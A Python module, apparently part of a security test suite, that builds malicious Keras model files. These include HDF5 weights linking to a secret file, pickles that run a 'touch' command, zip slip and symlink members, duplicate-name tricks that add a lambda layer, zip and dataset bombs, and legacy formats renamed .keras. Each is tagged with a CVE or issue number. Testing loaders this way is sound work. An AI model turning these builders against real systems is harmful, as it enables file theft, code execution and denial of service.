"""Attacks by the weights of a model file, by its zip, and by files that are something else."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np
from attack_helpers import CONFIG, WEIGHTS, Attack, Attacks, Case, Reduced, packed, pickled

ATTACKS = Attacks()

# Weights.


def first_kernel(file: Any) -> str:
    """Returns the name of the kernel of 3 × 2 weights."""
    names: list[str] = []

    def look(name: str, part: Any) -> None:
        if isinstance(part, h5py.Dataset) and part.shape == (3, 2):
            names.append(name)

    file.visititems(look)
    return names[0]


def _replaced(put: Callable[[Any, str, Case], Any]) -> Callable[[Case], Path]:
    """Returns an attack that puts something in place of the kernel."""

    def build(case: Case) -> Path:
        def change(file: Any) -> Any:
            name = first_kernel(file)
            del file[name]
            return put(file, name, case)

        return case.with_weights(change)

    return build


def _external(file: Any, name: str, case: Case) -> None:
    file.create_dataset(name, shape=(3, 2), dtype="f4", external=[(str(case.secret), 0, 24)])


def _virtual(file: Any, name: str, case: Case) -> None:
    layout = h5py.VirtualLayout((3, 2), "f4")
    layout[:] = h5py.VirtualSource(str(case.secret), "x", shape=(3, 2))
    file.create_virtual_dataset(name, layout)


def _growing(file: Any, name: str, case: Case) -> None:
    """Adds a virtual dataset whose size is that of another file."""
    layout = h5py.VirtualLayout((3, 2), "f4", maxshape=(None, 2))
    source = h5py.VirtualSource(str(case.secret), "x", shape=(3, 2), maxshape=(None, 2))
    layout[: h5py.h5s.UNLIMITED, :] = source[: h5py.h5s.UNLIMITED, :]
    file.create_virtual_dataset(name, layout)


def _linked(file: Any, name: str, case: Case) -> None:
    file[name] = h5py.ExternalLink(str(case.secret), "x")


def _linked_group(file: Any, name: str, case: Case) -> None:
    group = name.split("/")[0]
    del file[group]
    file[group] = h5py.ExternalLink(str(case.secret), "/")


def _softly(file: Any, name: str, case: Case) -> None:
    file[name] = h5py.SoftLink("/elsewhere")


def _bomb(file: Any, name: str, case: Case) -> None:
    shape = (1 << 20, 1 << 20)
    file.create_dataset(name, shape=shape, dtype="f4", chunks=(1024, 1024), compression="gzip")


def _bombs(file: Any, name: str, case: Case) -> None:
    for number in range(8):
        file.create_dataset(
            f"{name}{number}", shape=(1 << 29,), dtype="f4", chunks=(1 << 20,), compression="gzip"
        )


def _pickles(file: Any, name: str, case: Case) -> None:
    file.create_dataset(name, data=np.void(pickled(case)))


for _words, _report, _put in (
    ("weights in another file", "CVE-2026-1669", _external),
    ("weights that show another file", "CVE-2026-1669, keras #22976", _virtual),
    ("weights as many as another file has", "CVE-2026-1669, keras #22976", _growing),
    ("weights behind an external link", "CVE-2026-1669, keras #22900", _linked),
    ("a group behind an external link", "keras #22900", _linked_group),
    ("weights behind a soft link", "keras #22900", _softly),
    ("weights that are declared and not held", "CVE-2026-0897, keras #22975", _bomb),
    ("many of them, each below a limit", "keras #23100", _bombs),
    ("a pickle among the weights", "keras #22468", _pickles),
):
    ATTACKS[_words] = Attack(_report, _replaced(_put))


@ATTACKS.add("NumPy's file of weights with a pickle", "modelscan #262, keras #23034")
def _npz(case: Case) -> Path:
    parts = {**case.parts, "model.weights.npz": packed({"x.npy": _object_array(case)})}
    del parts[WEIGHTS]
    return case.write(parts)


@ATTACKS.add("a bare pickle as NumPy's file of weights", "modelscan #262")
def _bare(case: Case) -> Path:
    parts = {**case.parts, "model.weights.npz": pickled(case)}
    del parts[WEIGHTS]
    return case.write(parts)


@ATTACKS.add("NumPy's file of weights that declares more than it holds", "keras #23016")
def _npz_bomb(case: Case) -> Path:
    header = io.BytesIO()
    description = {"descr": "<f4", "fortran_order": False, "shape": (1 << 40,)}
    np.lib.format.write_array_header_1_0(header, description)
    parts = {**case.parts, "model.weights.npz": packed({"x.npy": header.getvalue()})}
    del parts[WEIGHTS]
    return case.write(parts)


@ATTACKS.add("weights in shards, at a path", "keras sharded weights")
def _sharded(case: Case) -> Path:
    index = {"metadata": {}, "weight_map": {"/layers/dense/vars": str(case.secret)}}
    parts = {**case.parts, "model.weights.json": json.dumps(index)}
    del parts[WEIGHTS]
    return case.write(parts)


def _object_array(case: Case) -> bytes:
    data = io.BytesIO()
    array = np.empty(1, dtype=object)
    array[0] = Reduced(f"touch {case.mark}")
    np.save(data, array, allow_pickle=True)
    return data.getvalue()


# The zip.

for _name, _report in (
    ("../outside/mark", "zip slip"),
    ("assets/../../outside/mark", "KERAS-MFV-001, zip slip in assets"),
    ("assets/vocabulary", "keras #23101"),
):

    def _member(case: Case, name: str = _name) -> Path:
        return case.write({**case.parts, name: b"x"})

    ATTACKS[f"a part named {_name}"] = Attack(_report, _member)


@ATTACKS.add("a part with the full path of a file", "GHSA-hqp4-2352-xf5r")
def _absolute(case: Case) -> Path:
    return case.write({**case.parts, str(case.mark): b"x"})


@ATTACKS.add("a part that is a link, and one below it", "keras #23015")
def _link(case: Case) -> Path:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as file:
        for name, part in case.parts.items():
            file.writestr(name, part)
        link = zipfile.ZipInfo("assets")
        link.external_attr = 0o120777 << 16
        file.writestr(link, str(case.mark.parent))
        file.writestr("assets/mark", b"x")
    path = case.folder / "evil.keras"
    path.write_bytes(data.getvalue())
    return path


@ATTACKS.add("weights that are a link", "keras #23015")
def _weights_link(case: Case) -> Path:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as file:
        for name, part in case.parts.items():
            info = zipfile.ZipInfo(name)
            if name == WEIGHTS:
                info.external_attr, part = 0o120777 << 16, str(case.secret)
            file.writestr(info, part)
    path = case.folder / "evil.keras"
    path.write_bytes(data.getvalue())
    return path


@ATTACKS.add("two configurations", "duplicate names in a zip")
def _twice(case: Case) -> Path:
    path = case.write(case.parts)
    evil = case.config()
    evil["config"]["layers"].append(case.bad_lambda())
    data = path.read_bytes()
    # Renamed in place, since Python's writer warns of a name that stands twice.
    other = packed({**case.parts, "config.jsox": json.dumps(evil)})
    path.write_bytes(other.replace(b"config.jsox", b"config.json"))
    assert data != path.read_bytes()
    return path


@ATTACKS.add("a name that differs between the list and the part", "duplicate names in a zip")
def _two_names(case: Case) -> Path:
    evil = case.config()
    evil["config"]["layers"].append(case.bad_lambda())
    data = packed({**case.parts, "config.jsox": json.dumps(evil)})
    place = data.rindex(b"config.jsox")  # that of the list, at the end
    path = case.folder / "evil.keras"
    path.write_bytes(data[:place] + b"config.json" + data[place + 11 :])
    return path


for _part in (CONFIG, "metadata.json", WEIGHTS, "assets/bomb"):

    def _zip_bomb(case: Case, part: str = _part) -> Path:
        data = io.BytesIO()
        with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as file:
            for name, own in {**case.parts, part: bytes(case.bomb_bytes)}.items():
                file.writestr(name, own)
        path = case.folder / "evil.keras"
        path.write_bytes(data.getvalue())
        return path

    ATTACKS[f"a zip bomb as {_part}"] = Attack("keras #23010, #23101, #23303", _zip_bomb)


# Files that are something else.


def legacy_file(case: Case) -> bytes:
    """Returns an HDF5 file of a whole model, as older versions write it."""
    data = io.BytesIO()
    model = {"class_name": "Sequential", "config": {"name": "m", "layers": [case.bad_lambda()]}}
    with h5py.File(data, "w") as file:
        file.attrs["model_config"] = json.dumps(model)
        file.attrs["keras_version"] = "2.15.0"
        file.attrs["backend"] = "tensorflow"
        file.create_group("model_weights").attrs["layer_names"] = []
    return data.getvalue()


@ATTACKS.add("a model of HDF5", "CVE-2025-9905")
def _legacy(case: Case) -> Path:
    path = case.folder / "evil.h5"
    path.write_bytes(legacy_file(case))
    return path


@ATTACKS.add("a model of HDF5 that is named .keras", "CVE-2025-9905")
def _renamed(case: Case) -> Path:
    path = case.folder / "evil.keras"
    path.write_bytes(legacy_file(case))
    return path


for _ending in (".h5", ".keras"):

    def _both(case: Case, ending: str = _ending) -> Path:
        path = case.folder / f"evil{ending}"
        path.write_bytes(legacy_file(case) + packed(case.parts))
        return path

    ATTACKS[f"HDF5 and a zip in one file named {_ending}"] = Attack("CVE-2025-9905", _both)


@ATTACKS.add("a pickle named .keras", "KERAS-MFV-006")
def _bare_pickle(case: Case) -> Path:
    path = case.folder / "evil.keras"
    path.write_bytes(pickled(case))
    return path


@ATTACKS.add("a SavedModel", "JFrog TFLOW-LAMBDA and TFLOW-MALOPS")
def _saved_model(case: Case) -> Path:
    path = case.folder / "evil.keras"
    (path / "variables").mkdir(parents=True)
    (path / "saved_model.pb").write_bytes(b"\x08\x01")
    (path / "keras_metadata.pb").write_bytes(b"")
    return path


@ATTACKS.add("a checkpoint of Orbax", "KERAS-MFV-001")
def _orbax(case: Case) -> Path:
    path = case.folder / "evil.keras"
    (path / "0" / "assets").mkdir(parents=True)
    (path / "0" / "_CHECKPOINT_METADATA").write_text("{}")
    (path / "0" / "config.json").write_bytes(case.parts[CONFIG])
    return path
